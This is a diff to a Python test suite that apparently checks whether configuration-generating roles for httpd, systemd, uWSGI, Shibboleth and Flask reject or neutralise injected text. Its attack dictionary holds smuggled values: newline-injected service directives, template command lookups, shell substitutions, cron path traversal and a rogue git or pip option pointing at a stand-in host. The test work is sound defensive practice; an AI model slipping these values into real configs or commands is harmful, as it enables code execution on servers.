@@ -5,6 +5,7 @@
 from __future__ import annotations
 
 from collections.abc import Callable, Mapping
+from functools import cache
 from typing import Any, NamedTuple
 from urllib.parse import quote
 
@@ -17,30 +18,20 @@ ATTACKS = {
     "line": "x\nLoadModule evil_module /tmp/evil.so",
     "carriage return": "x\rExecStart=/tmp/evil",
     "nul": "x\0y",
-    "escape": "\x1b]0;evil\x07",
-    "line separator": "x\u2028y",
-    "quote": '" evil "',
-    "apostrophe": "' evil '",
+    "line of Unicode": "x\u2028User=root\x85y",
+    "quote": "\" evil ' evil ",
     "quote and line": '"\n[Service]\nExecStartPre=/tmp/evil\n"',
     "end of a section": "/></VirtualHost><VirtualHost *:80>",
-    "backslash": "\\",
-    "quote behind a backslash": '\\" evil "',
+    "backslash": '\\" evil \\',
     "template": "{{ lookup('pipe', 'id') }}{% set x = 1 %}{# #}",
     "variable of httpd": "${PATH}",
-    "expression of httpd": "%{SSL_CLIENT_VERIFY}",
-    "specifier of systemd": "%h %n %i",
-    "setting of uWSGI": "%(evil) $(PATH) @(exec://id)",
-    "command": "`touch /tmp/evil` $(touch /tmp/evil)",
-    "commands": "; touch /tmp/evil & | || && > /tmp/evil",
-    "variable": "$HOME $PATH",
-    "XML": '"/><Evil a="1">&evil;<!--',
-    "CDATA": "]]><evil/>",
+    "expressions": "%{SSL_CLIENT_VERIFY} %h %n %(evil) @(exec://id)",
+    "shell": "; touch /tmp/evil & `id` $(id) $HOME | tee > /tmp/evil",
+    "XML": '"/><Evil a="1">&evil;<!-- ]]>',
     "parent": "../../../../etc/cron.d/evil",
-    "option": "--upload-pack=touch /tmp/evil",
-    "pip": " --index-url=https://evil.example --trusted-host evil.example",
-    "comment": "x # evil ; evil",
+    "option": "--upload-pack=touch --index-url=https://evil.example # evil",
     "spaces": "  x  y  ",
-    "huge": "x" * 200_000,
+    "huge": "x" * 132_000,
     "emoji": "é😀",
 }
 
@@ -81,6 +72,11 @@ class Place(NamedTuple):
     #: The role that makes the files, if it is another one.
     role: str = ""
 
+    @property
+    def maker(self) -> str:
+        """The role that makes the files."""
+        return self.role or role_of(self.variable)
+
     def variables(self, text: str) -> dict[str, Any]:
         """Return variables with a text."""
         return {**self.beside, self.variable: self.make(text)}
@@ -119,7 +115,7 @@ PLACES = {
     ),
     "a name of an attribute": Place(
         "saml_sp_attributes",
-        lambda text: [UPN, {"id": "mail", "name": text}],
+        lambda text: [{"id": "upn", "name": text}],
         {"attribute-map.xml.j2": file_formats.xml},
         beside={"saml_sp_remote_user": ["upn"]},
         role="shibboleth_sp",
@@ -146,7 +142,10 @@ PLACES = {
         "flask_app_before_switch", lambda text: [{"command": ["flask", text]}], {"flask_app__before": list}
     ),
     "a calendar": Place(
-        "flask_app_timers", lambda text: [{"name": "night", "command": ["flask"], "calendar": text}], COMPANIONS
+        "flask_app_timers",
+        lambda text: [{"name": "night", "command": ["flask"], "calendar": text}],
+        COMPANIONS,
+        str.strip,
     ),
     "a password of the index": Place(
         "flask_app_index_password",
@@ -185,8 +184,19 @@ def test_text_is_refused_or_one_harmless_word(site, case, attack):
         assert any(place.variable in fault for fault in faults), faults
         return
     for name, read in place.files.items():
-        hostile, harmless = (
-            read(site.made(place.role or role_of(place.variable), name, place.variables(word))) for word in (text, HARMLESS)
-        )
+        harmless = read_harmless(site, case, name)
+        hostile = read(site.made(place.maker, name, place.variables(text)))
         assert with_text(hostile, HARMLESS) == with_text(harmless, place.form(text))
-        assert with_text(harmless, "") != with_text(harmless, HARMLESS)
+        assert with_text(harmless, "") != harmless
+
+
+@cache
+def read_harmless(site: hostile_roles.Site, case: str, name: str) -> Any:
+    """Return a file or variable with the harmless word, as it is read.
+
+    :param site: The site.
+    :param case: Where the word is.
+    :param name: Name of the template or the variable.
+    """
+    place = PLACES[case]
+    return with_text(place.files[name](site.made(place.maker, name, place.variables(HARMLESS))), HARMLESS)
